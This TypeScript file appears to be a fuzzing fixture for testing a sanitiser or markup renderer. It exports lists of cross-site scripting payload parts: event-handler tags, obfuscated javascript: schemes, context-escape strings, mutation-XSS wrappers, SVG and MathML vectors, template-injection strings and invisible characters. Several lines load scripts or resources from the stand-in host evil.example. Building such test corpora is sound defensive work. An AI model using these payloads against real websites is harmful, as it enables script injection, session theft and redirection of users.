// What hostile texts are made of: each list is one way in, and hostile-strings.ts multiplies them. What gets in calls
// `ran()`, or asks evil.example for something.

const image = '<img src=x onerror=ran()>'
const script = '<script>ran()</script>'
const drawing = '<svg onload=ran()>'

export const payloads = [image, script, drawing, '<iframe src=javascript:ran()>', '<a href=javascript:ran()>x</a>']

/** A tag, the event that it brings about by itself or at a touch, and what it needs for that. */
export const tags = [
  ['img', 'onerror', 'src=x'],
  ['img', 'onload', 'src=/favicon.ico'],
  ['svg', 'onload', ''],
  ['body', 'onpageshow', ''],
  ['video', 'onerror', 'src=x'],
  ['audio', 'onloadstart', 'src=x'],
  ['input', 'onfocus', 'autofocus'],
  ['details', 'ontoggle', 'open'],
  ['marquee', 'onstart', ''],
  ['iframe', 'onload', ''],
  ['object', 'onerror', 'data=x'],
  ['embed', 'onload', 'src=x'],
  ['link', 'onerror', 'rel=stylesheet href=x'],
  ['p', 'onpointerenter', ''],
  ['x', 'onanimationend', 'style=animation:x'],
] as const

/** Events that anything can have. */
export const events =
  `onclick ondblclick onmousedown onmouseup onmouseover onmousemove onmouseout onkeydown onkeyup onkeypress onfocus onfocusin
  onblur oninput onchange onselect onscroll onscrollend onwheel ontouchstart ontouchmove onpointerdown onpointerover
  ongotpointercapture onanimationstart ontransitionend onbeforeinput oncopy oncut onpaste ondrag ondragstart ondrop
  oncontextmenu onauxclick onresize onsearch onreset oninvalid ontoggle onbeforetoggle oncancel onclose onloadedmetadata
  oncanplay`.split(/\s+/)

/** How an attribute can be written. */
export const quotings: readonly ((name: string, value: string) => string)[] = [
  (name, value) => `${name}=${value}`,
  (name, value) => `${name}="${value}"`,
  (name, value) => `${name}='${value}'`,
  (name, value) => `${name}=\`${value}\``,
  (name, value) => `${name.toUpperCase()}=${value}`,
  (name, value) => `${name} = "${value}"`,
]

/** What stands between a tag's name and its attributes, and how the tag ends. */
export const seams: readonly (readonly [between: string, end: string])[] = [
  [' ', '>'],
  ['/', '//'],
]

/** What might close the place where a text stands. */
export const exits = [
  '">',
  "'>",
  '`>',
  '--!>',
  '-->',
  ']]>',
  '*/',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</select>',
  '</svg>',
  '\\">',
]

/** For the inside of an attribute, without a tag. */
export const attributeEnds = ['"', "'", '`', '" ', '&quot;']
export const ownEvents = ['onfocus', 'onmouseover', 'onclick', 'onerror', 'onload', 'onpointermove', 'onanimationend']

export const schemes = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  'javascript&colon;ran()',
  '&#106;avascript:ran()',
  'java&Tab;script:ran()',
  'javascript://%0aran()',
  'javascript:ran()//https://a.example',
  ' javascript:ran()',
  'vbscript:ran()',
  'data:text/html,<script>ran()</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'blob:null/ran()',
  'filesystem:ran()',
  'view-source:ran()',
  'https:javascript:ran()',
  'https://a.example/"onclick=ran()',
]

/** Where our own markup, or that of others, takes an address. */
export const addressPlaces: readonly ((address: string) => string)[] = [
  (address) => `[a](${address})`,
  (address) => `[a](<${address}>)`,
  (address) => `![a](${address})`,
  (address) => `<${address}>`,
  (address) => address,
  (address) => `[a]: ${address}`,
  (address) => `[${address}](${address})`,
  (address) => `**[a](${address})**`,
  (address) => `> [a](${address})`,
  (address) => `- [a](${address})`,
  (address) => `||[a](${address})||`,
  (address) => `[a](${address} "t")`,
  (address) => `<a href="${address}">a</a>`,
]

/** Our own markup around something. */
export const marks: readonly ((inside: string) => string)[] = [
  (inside) => `**${inside}**`,
  (inside) => `*${inside}*`,
  (inside) => `~~${inside}~~`,
  (inside) => `||${inside}||`,
  (inside) => `\`${inside}\``,
  (inside) => `> ${inside}`,
  (inside) => `- ${inside}`,
  (inside) => `1. ${inside}`,
  (inside) => `#tag${inside}`,
  (inside) => `@name${inside}`,
  (inside) => `@everyone ${inside}`,
  (inside) => `[${inside}](https://a.example)`,
  (inside) => `||**\`${inside}\`**||`,
  (inside) => `\`\`\`\n${inside}\n\`\`\``,
  (inside) => `\`\`\`"onload=ran()\n${inside}\n\`\`\``,
  (inside) => `> - ${inside}\n> > ${inside}`,
]

/** Parsed, written and parsed again these are another thing each time. */
export const mutations: readonly ((payload: string) => string)[] = [
  (payload) => `<noscript><p title="</noscript>${payload}">`,
  (payload) => `<svg></p><style><a id="</style>${payload}">`,
  (payload) => `<math><mi><style><!--</style>${payload}`,
  (payload) => `<svg><style>&lt;/style>${payload}`,
  (payload) => `<table><td>${payload}</table><p>`,
  (payload) => `<select><template>${payload}`,
  (payload) => `<form><math><mtext></form>${payload}`,
  (payload) => `<p id="\`\`${payload}">`,
  (payload) => `<xmp>a</xmp>${payload}`,
  (payload) => `<listing>&lt;x</listing>${payload}`,
  (payload) => `<!--<p title="-->${payload}">`,
  (payload) => `<![CDATA[${payload}]]>`,
  (payload) => `<?x ${payload}?>`,
  (payload) => `<title><a title="</title>${payload}">`,
  (payload) => `<textarea>&lt;/textarea>${payload}`,
]

export const drawings: readonly string[] = [
  '<svg><animate onbegin=ran() attributeName=x>',
  '<svg><set onbegin=ran() attributeName=x>',
  '<svg><script>ran()</script></svg>',
  '<svg><script href=data:,ran() />',
  '<svg><script>&#114;an()</script>',
  '<svg><use href="data:image/svg+xml,x#x"/>',
  '<svg><a href="javascript:ran()"><text y=9>x</text></a>',
  '<svg><image href=//evil.example/x>',
  '<svg><foreignObject><body onload=ran()>',
  '<svg><style>@import"//evil.example/x"</style>',
  '<svg><desc><img src=x onerror=ran()></desc>',
  '<svg><title><img src=x onerror=ran()></title>',
  '<math href="javascript:ran()">x</math>',
  '<math><a xlink:href=javascript:ran()>x</a></math>',
  '<math><maction actiontype=statusline>ran()</maction>',
  '<math><annotation-xml encoding=text/html><img src=x>',
]

export const loaders: readonly string[] = [
  '<img src=//evil.example/x>',
  '<img srcset="//evil.example/x 2x">',
  '<link rel=prefetch href=//evil.example/x>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;//evil.example">',
  '<iframe src=//evil.example></iframe>',
  '<iframe srcdoc="<script>ran()</script>"></iframe>',
  '<object data=//evil.example></object>',
  '<embed src=//evil.example>',
  '<form action=//evil.example><button>x</button></form>',
  '<script src=//evil.example/x></script>',
  "<style>@import'//evil.example/x';</style>",
  '<p style=background:url(//evil.example/x)>x</p>',
  '<p style="x:expression(ran())">x</p>',
  '<video poster=//evil.example/x>',
  '<portal src=//evil.example>',
]

/** Of languages that texts are put into before they are shown: scripts, templates, sentences of translators. */
export const templates: readonly ((code: string) => string)[] = [
  (code) => `\${${code}}`,
  (code) => `\`\${${code}}\``,
  (code) => `{{${code}}}`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `#{${code}}`,
  (code) => `<%= ${code} %>`,
  (code) => `[[${code}]]`,
  (code) => `{% ${code} %}`,
  (code) => `{${code}}`,
  (code) => `"-${code}-"`,
  (code) => `'-${code}-'`,
  (code) => `";${code};//`,
  (code) => `\\';${code};//`,
  (code) => `<0>${code}</0>`,
  (code) => `<0/>{0} {name} ${code}`,
  (code) => `{0, plural, other {${code}}}`,
  (code) => `{"__proto__":{"x":"${code}"}}`,
  (code) => `$&$1$\`${code}`,
]
export const codes = ['ran()', 'top.ran()', "window['ran']()", 'setTimeout(ran)', 'import("//evil.example/x")']

/** Nobody sees them; parsers may. */
export const hiddenSigns = [
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u202e',
  '\u2028',
  '\u2029',
  '\u00ad',
  '\u2060',
  '\u{e0041}',
  '\u2066',
  '\t',
  '\n',
]
